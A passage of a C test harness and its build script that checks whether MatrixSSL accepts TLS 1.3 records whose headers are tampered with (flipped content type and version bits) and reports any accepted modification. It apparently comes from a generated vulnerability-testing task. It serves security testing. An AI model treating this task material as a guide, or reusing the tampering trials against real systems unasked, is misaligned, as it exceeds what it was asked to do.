    case 22: flag = v_tls_1_3_draft_22; break;
    case 23: flag = v_tls_1_3_draft_23; break;
    case 24: flag = v_tls_1_3_draft_24; break;
    case 26: flag = v_tls_1_3_draft_26; break;
    case 28: flag = v_tls_1_3_draft_28; break;
    default: flag = v_tls_1_3; d = 0; break;
    }
    if (matrixSslOpen() < 0 ||
        matrixSslNewKeys(&g_svrKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_clnKeys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(g_svrKeys, RSA2048, sizeof(RSA2048),
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadRsaKeysMem(g_clnKeys, NULL, 0, NULL, 0,
            RSA2048CA, sizeof(RSA2048CA)) < 0)
    {
        fprintf(stderr, "setup\n");
        return 2;
    }
    if (d)
    {
        printf("TLS 1.3 draft %d, TLS_AES_128_GCM_SHA256\n", d);
    }
    else
    {
        printf("TLS 1.3 (RFC 8446), TLS_AES_128_GCM_SHA256\n");
    }
    bad += attempt(flag, "unmodified record (control)", 0, 0x00) ? 0 : 0;
    bad += attempt(flag, "opaque_type 23 -> 22", 0, 0x01);
    bad += attempt(flag, "opaque_type 23 -> 21", 0, 0x02);
    bad += attempt(flag, "legacy_record_version minor bit", 2, 0x02);
    bad += attempt(flag, "legacy_record_version major bit", 1, 0x04);
    matrixSslDeleteKeys(g_svrKeys);
    matrixSslDeleteKeys(g_clnKeys);
    matrixSslClose();
    if (bad)
    {
        printf("OBSERVED: %d header modification(s) of a protected record "
            "were accepted\n", bad);
        return 1;
    }
    printf("every header modification was rejected\n");
    return 0;
}
