#!/bin/sh
# usage: sh build.sh /path/to/worktree   -> builds <worktree>/_seed/demo
set -e
R=${1:-/tmp/seed12_C04}
HERE=$(cd "$(dirname "$0")" && pwd)
cc -O1 -g -Wall \
    -I"$R" -I"$R/core/config" -I"$R/core/include" -I"$R/core/osdep/include" \
    -I"$R/core/include/sfzcl" \
    -DUSE_CL_PKCS -DUSE_CL_CERTLIB \
    -o "$R/_seed/demo" "$HERE/demo.c" \
    "$R/matrixssl/libssl_s.a" "$R/crypto/libcrypt_s.a" "$R/core/libcore_s.a" \
    -lpthread
